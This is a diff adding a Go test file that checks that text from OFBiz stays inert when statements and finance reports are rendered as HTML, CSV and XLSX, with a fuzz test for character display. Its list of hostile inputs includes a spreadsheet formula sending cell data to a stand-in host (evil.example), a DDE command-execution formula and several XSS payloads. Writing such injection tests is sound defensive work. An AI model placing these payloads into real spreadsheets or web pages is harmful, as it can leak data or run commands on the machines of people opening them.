@@ -1,0 +1,235 @@
+package files
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+	"unicode"
+	"unicode/utf8"
+
+	"fairshare/calc"
+	"fairshare/mapping"
+
+	"golang.org/x/net/html"
+)
+
+// hostile are texts that somebody may have typed into OFBiz.
+var hostile = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=1+1`, `=cmd|'/c calc'!A0`, `+1+1`, `-2+3`, `@SUM(1;1)`,
+	"\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `"=1+1`, `'=1+1`, `a;=1+1`, `a,=1+1`, `a;"=1+1"`, `＝1+1`, "a\r\n=1+1",
+	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`,
+	`" onmouseover="alert(1)`, `' onload='alert(1)`, `javascript:alert(1)`, `{{.Settlement}}`, `<!-- --`, `]]>`, `&lt;b&gt;&amp;`,
+	"a\u202egnp.exe", "\u2066a\u2069", "zero\u200bwidth", "\ufeffbom", "nul\x00inside", "bell\x07esc\x1b[31m", "line\u2028end",
+	"\xff\xfe broken", "\ufffe\uffff", "_x000D_=1", "😀👩‍👩‍👧🇭🇺", "Ő ű ß ﷽ 漢字", strings.Repeat("long", 1250), `\\server\share`, `%s%d%n`,
+}
+
+// poisoned puts a text into every field of a statement that comes from OFBiz.
+func poisoned(text string) mapping.Statement {
+	s := paidStatement()
+	s.Organization, s.Party.Name, s.Party.ID = text, text, calc.PartyID(text)
+	s.Settlement.ID, s.Settlement.Version = text, text
+	for i := range s.Rows {
+		s.Rows[i].Activity = product(text, text+" ")
+	}
+	invoice := *s.Invoice
+	invoice.Items = slices.Clone(invoice.Items)
+	for i := range invoice.Items {
+		invoice.Items[i].Description, invoice.Items[i].Activity = text, calc.ActivityID(text)
+	}
+	invoice.ID, s.Invoice = text, &invoice
+	return s
+}
+
+// poisonedFinance does the same to a finance report.
+func poisonedFinance(text string) mapping.Finance {
+	r := sampleFinance()
+	r.Organization, r.Settlement.ID = text, text
+	for i := range r.Parties {
+		r.Parties[i].Party.Name, r.Parties[i].Party.ID, r.Parties[i].Note = text+" ", calc.PartyID(text), text
+		r.Parties[i].Invoice = strings.TrimSpace(r.Parties[i].Invoice + text)
+	}
+	for i := range r.Retained {
+		r.Retained[i].Activity, r.Retained[i].Meaning = product(text, text+" "), text
+	}
+	for i := range r.Activities {
+		r.Activities[i].Activity = product(text, text+" ")
+	}
+	for _, f := range sampleFindings() {
+		r.Findings = append(r.Findings, mapping.Finding{Code: text, Severity: f.Severity, Entity: text, Key: text, Text: text})
+	}
+	return r
+}
+
+func TestHostileTextStaysText(t *testing.T) {
+	if len(hostile) < 40 {
+		t.Fatalf("only %d texts", len(hostile))
+	}
+	check := map[string]func(*testing.T, []byte, []byte){"html": inertHTML, "csv": inertCSV, "xlsx": inertXLSX}
+	for i, text := range hostile {
+		for _, format := range Formats {
+			t.Run(fmt.Sprintf("%d/%s", i, format), func(t *testing.T) {
+				check[format](t, render(t, format, poisoned("harmless")).Content, render(t, format, poisoned(text)).Content)
+				check[format](t, renderFinance(t, format, poisonedFinance("harmless")).Content, renderFinance(t, format, poisonedFinance(text)).Content)
+			})
+		}
+	}
+}
+
+// inertHTML: a poisoned page has the very elements and attributes of a harmless one.
+func inertHTML(t *testing.T, harmless, content []byte) {
+	if want, got := skeleton(t, harmless), skeleton(t, content); want != got {
+		t.Errorf("the text changed the page:\n%s\nwant\n%s", got, want)
+	}
+	noHidden(t, string(content))
+}
+
+func skeleton(t *testing.T, content []byte) string {
+	t.Helper()
+	root, err := html.Parse(bytes.NewReader(content))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for node := range root.Descendants() {
+		if node.Type != html.TextNode {
+			fmt.Fprintln(&b, node.Type, node.Data, node.Attr)
+		}
+	}
+	return b.String()
+}
+
+// noHidden fails on characters that can't be seen or turn text around.
+func noHidden(t *testing.T, text string) {
+	t.Helper()
+	if !utf8.ValidString(text) {
+		t.Error("broken UTF-8")
+	}
+	for _, r := range text {
+		if hidden(r) && r != '\n' && r != '\r' {
+			t.Errorf("%U is still there", r)
+		}
+	}
+}
+
+// inertCSV: as many records and cells, and none that a spreadsheet takes for a
+// formula, also where it parts cells at semicolons.
+func inertCSV(t *testing.T, harmless, content []byte) {
+	if want, got := len(csvRecords(t, harmless)), len(csvRecords(t, content)); want != got {
+		t.Errorf("%d records, want %d", got, want)
+	}
+	for _, comma := range []rune{',', ';'} {
+		reader := csv.NewReader(bytes.NewReader(content))
+		reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = comma, true, -1
+		rows, err := reader.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if start := strings.TrimLeft(cell, " \""); strings.IndexAny(start, "=+-@\t\r\n＝") == 0 && !isNumber(cell) {
+					t.Errorf("parted by %q the cell %q is active", comma, cell)
+				}
+			}
+		}
+	}
+	noHidden(t, string(content))
+}
+
+// inertXLSX: the same parts, every one well-formed, the same formulas, and no
+// relation that leads out of the file.
+func inertXLSX(t *testing.T, harmless, content []byte) {
+	want, got := parts(t, harmless), parts(t, content)
+	if !slices.Equal(want, got) {
+		t.Errorf("parts %v, want %v", got, want)
+	}
+	if want, got := formulas(t, harmless), formulas(t, content); !slices.Equal(want, got) {
+		t.Errorf("formulas %v, want %v", got, want)
+	}
+	eachCell(t, workbook(t, content), func(_, _, value, _ string) { noHidden(t, value) })
+}
+
+func parts(t *testing.T, content []byte) []string {
+	t.Helper()
+	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, part := range archive.File {
+		names = append(names, part.Name)
+		wellFormed(t, part)
+	}
+	return names
+}
+
+func wellFormed(t *testing.T, part *zip.File) {
+	t.Helper()
+	in, err := part.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer in.Close()
+	decoder := xml.NewDecoder(in)
+	for {
+		token, err := decoder.Token()
+		if errors.Is(err, io.EOF) {
+			return
+		}
+		if err != nil {
+			t.Fatalf("%s: %v", part.Name, err)
+		}
+		if element, ok := token.(xml.StartElement); ok {
+			for _, a := range element.Attr {
+				if a.Name.Local == "TargetMode" {
+					t.Errorf("%s leads out of the file: %v", part.Name, element)
+				}
+			}
+		}
+	}
+}
+
+func formulas(t *testing.T, content []byte) []string {
+	var all []string
+	eachCell(t, workbook(t, content), func(sheet, cell, _, formula string) {
+		if formula != "" {
+			all = append(all, sheet+"!"+cell+formula)
+		}
+	})
+	return all
+}
+
+func TestShown(t *testing.T) {
+	for text, want := range map[string]string{
+		"Kőhalmi Gergő":  "Kőhalmi Gergő",
+		"a\x00b\r\nc\td": "a␀b␍␊c␉d",
+		"\x7f\u0085":     "␡[U+0085]",
+		"a\u202eb":       "a[U+202E]b",
+		"\xff":           "\ufffd",
+		"👩‍👧🇭🇺":          "👩‍👧🇭🇺",
+		"\ufeffx\uffff":  "[U+FEFF]x[U+FFFF]",
+	} {
+		if got := shown(text); got != want {
+			t.Errorf("shown(%q) = %q, want %q", text, got, want)
+		}
+	}
+}
+
+// FuzzShown: what is shown has nothing hidden in it, and showing it again changes nothing.
+func FuzzShown(f *testing.F) {
+	for _, text := range hostile {
+		f.Add(text)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		got := shown(text)
+		if strings.ContainsFunc(got, func(r rune) bool { return hidden(r) || unicode.IsControl(r) }) || shown(got) != got {
+			t.Errorf("shown(%q) = %q", text, got)
+		}
+	})
+}
